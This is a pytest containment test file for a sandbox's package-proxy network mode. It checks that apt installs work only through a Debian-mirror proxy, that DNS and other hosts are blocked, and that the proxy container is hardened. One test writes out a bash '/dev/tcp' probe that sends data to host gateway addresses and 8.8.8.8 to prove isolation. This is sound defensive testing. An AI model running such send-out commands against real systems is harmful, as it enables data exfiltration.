"""The package path (issue 13): Debian packages through the proxy, and nothing else.

Each containment test has a control that shows the same probe succeeding where it should
(another network mode, or an allowed target), so the test can fail.
"""

from __future__ import annotations

import textwrap
from typing import Any

import pytest

from opsgen.sandbox import DryRunReport
from opsgen.sandbox.packages import (
    INNER_NETWORK,
    OUTER_NETWORK,
    PROXY_ALIAS,
    PROXY_IMAGE,
    PROXY_LABEL,
    PROXY_NAME,
    ensure_proxy,
)
from tests.sandbox.helpers import Listener, bridge_gateway, dry

pytestmark = pytest.mark.docker

PROXY = f"http://{PROXY_ALIAS}:3142"
MIRROR_FILE = "http://deb.debian.org/debian/dists/bookworm/Release"


@pytest.fixture(scope="module")
def proxy(docker_client: Any) -> Any:
    """The shared proxy, started on demand (a missing proxy image fails: CI builds it)."""
    docker_client.images.get(PROXY_IMAGE)
    ensure_proxy(docker_client)
    return docker_client.containers.get(PROXY_NAME)


def _pkg(client: Any, script: str, timeout: float = 60) -> DryRunReport:
    return dry(client, script, timeout=timeout, network="packages")


def test_nginx_installs_through_the_proxy(docker_client: Any, proxy: Any, no_leaks: None) -> None:
    script = textwrap.dedent(
        """\
        set -e
        apt-get update -qq
        DEBIAN_FRONTEND=noninteractive apt-get install -y -qq nginx >/dev/null
        nginx -t
        """
    )
    report = _pkg(docker_client, script, timeout=300)
    assert report.runs[0].status == "passed", report.runs[0].stderr[-2000:]
    assert report.network == "packages"
    assert "/usr/sbin/nginx" in {f.path for f in report.diff.files}
    assert not any(f.code == "OPS414" for f in report.findings)


def test_no_package_path_with_network_none(docker_client: Any, no_leaks: None) -> None:
    report = dry(docker_client, "apt-get install -y nginx\n")
    assert report.runs[0].status == "failed"
    (finding,) = [f for f in report.findings if f.code == "OPS414"]
    assert "no package path (--network none)" in finding.message
    assert '"nginx"' in finding.message


def test_host_listener_unreachable(docker_client: Any, proxy: Any, no_leaks: None) -> None:
    """ADV-07 under the package path: no address of the host answers, whichever is tried."""
    gateway = bridge_gateway(docker_client)
    inner = docker_client.networks.get(INNER_NETWORK).attrs["IPAM"]["Config"][0]["Gateway"]
    outer = docker_client.networks.get(OUTER_NETWORK).attrs["IPAM"]["Config"][0]["Gateway"]
    with Listener("0.0.0.0").running() as listener:
        probes = "".join(
            f"timeout 3 bash -c 'echo leak > /dev/tcp/{ip}/{listener.port}' && echo OPEN {ip}\n"
            for ip in (gateway, inner, outer, "8.8.8.8")
        )
        report = _pkg(docker_client, probes + "true\n")
        control = dry(docker_client, probes + "true\n", network="bridge")
    assert report.runs[0].status == "passed", report.runs[0].stderr
    assert "OPEN" not in report.runs[0].stdout
    # Control: on the ordinary bridge the same probe reaches the listener.
    assert f"OPEN {gateway}" in control.runs[0].stdout
    assert listener.connections >= 1 and b"leak" in listener.received


def test_outside_names_do_not_resolve(docker_client: Any, proxy: Any, no_leaks: None) -> None:
    """ADV-08 under the package path: only the proxy's name resolves."""
    script = (
        "getent hosts deb.debian.org && echo RESOLVED\n"
        f"getent hosts {PROXY_ALIAS} >/dev/null && echo PROXY-OK\n"
    )
    report = _pkg(docker_client, script + "true\n")
    assert "RESOLVED" not in report.runs[0].stdout
    # Control: the resolver works (the proxy's name), so "no answer" is the policy.
    assert "PROXY-OK" in report.runs[0].stdout


def test_proxy_serves_only_the_mirror(docker_client: Any, proxy: Any, no_leaks: None) -> None:
    script = "".join(
        f"echo {name}=$(curl -s -o /dev/null -w '%{{http_code}}' -m 20 -x {PROXY} {url})\n"
        for name, url in (
            ("mirror", MIRROR_FILE),
            ("other", "http://example.com/"),
            ("other_path", "http://deb.debian.org/not-debian/x"),
            ("connect", "https://deb.debian.org/debian/dists/bookworm/Release"),
            ("connect_bts", "https://bugs.debian.org/"),
        )
    )
    report = _pkg(docker_client, script)
    codes = dict(line.split("=", 1) for line in report.runs[0].stdout.split())
    assert codes["mirror"] == "200"  # control: the proxy does serve the mirror
    for refused in ("other", "other_path", "connect", "connect_bts"):
        assert codes[refused] != "200", codes  # 403, or 000 for a refused CONNECT


def test_proxy_is_hardened(proxy: Any) -> None:
    proxy.reload()
    host = proxy.attrs["HostConfig"]
    assert host["CapDrop"] == ["ALL"] and not host.get("CapAdd")
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert host["ReadonlyRootfs"] is True and host["Privileged"] is False
    assert host["PidsLimit"] == 128 and host["Memory"] == host["MemorySwap"] > 0
    assert host["NanoCpus"] > 0 and host["Init"] is True
    assert proxy.attrs["Config"]["User"] == "apt-cacher-ng"
    assert [m["Type"] for m in proxy.attrs["Mounts"]] == ["volume"]
    assert set(proxy.attrs["NetworkSettings"]["Networks"]) == {INNER_NETWORK, OUTER_NETWORK}
    assert proxy.labels[PROXY_LABEL] == "1"
    inner = proxy.client.networks.get(INNER_NETWORK).attrs
    assert inner["Internal"] is True
    assert inner["Options"]["com.docker.network.bridge.inhibit_ipv4"] == "true"
